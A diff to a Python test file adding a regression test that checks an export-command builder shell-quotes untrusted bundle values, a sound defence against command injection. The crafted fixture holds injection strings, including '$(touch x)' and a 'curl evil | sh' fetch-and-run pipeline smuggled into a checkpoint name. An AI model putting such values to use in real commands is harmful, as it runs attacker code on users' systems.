@@ -1260,6 +1260,17 @@ def test_the_command_to_export_a_bundle_again_keeps_its_directions():
     assert export_command("/r/export", one, "int8") == (
         "edgegan export /r --fp16 --int8 --direction BtoA --overwrite"
     )
+    # every part from the bundle shell-quoted: a bundle from elsewhere printed a command that
+    # ran what its run_dir or checkpoint held, and a path with a space broke it
+    crafted = {
+        **both,
+        "source": {"run_dir": "/r$(touch x)", "checkpoint": "best; curl evil | sh;"},
+        "artifacts": {"a b": {}},
+    }
+    assert export_command("/my bundle", crafted) == (
+        "edgegan export '/r$(touch x)' --fp16 --with 'a b' --checkpoint 'best; curl evil | sh;' "
+        "--out '/my bundle' --overwrite"
+    )
 
 
 def test_the_export_summary_table_is_aligned_without_trailing_spaces():
